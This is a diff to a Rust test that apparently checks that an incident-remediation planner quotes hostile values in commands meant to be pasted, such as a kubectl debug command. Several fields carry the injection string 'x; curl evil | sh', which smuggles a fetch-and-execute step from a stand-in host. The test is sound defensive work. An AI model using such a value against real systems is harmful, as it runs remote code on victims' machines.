@@ -268,13 +268,12 @@ fn values_are_checked_and_hostile_ones_never_pass() {
         bind(step, &facts, &std::collections::BTreeMap::new()).unwrap_err().says.contains("New memory limit")
     );
 
-    // Text for a person to paste is quoted, whatever the image is called.
-    let hostile = World::new("ingress-down", "shop", "web", 1, 1)
-        .binding("host", "shop.example")
-        .binding("balancer", "x; curl evil | sh");
+    // Text for a person to paste is quoted, whatever the namespace is called.
+    let hostile =
+        World::new("prom-down", "shop", "web", 1, 1).binding("prometheus_namespace", "x; curl evil | sh");
     let plan = hostile.plan();
-    let Some(Action::Elsewhere { operation, .. }) = &plan.step("point-dns").unwrap().action else { panic!() };
-    assert!(operation.ends_with("# shop.example to 'x; curl evil | sh'"), "{operation}");
+    let Some(Action::Elsewhere { operation, .. }) = &plan.step("restore").unwrap().action else { panic!() };
+    assert!(operation.starts_with("kubectl -n 'x; curl evil | sh' debug"), "{operation}");
     // What is asked of a registry is an image, or nothing.
     let mut hostile = World::new("image-pull", "shop", "web", 1, 1);
     hostile.pods[0].containers[0].image = "x; curl evil | sh".into();
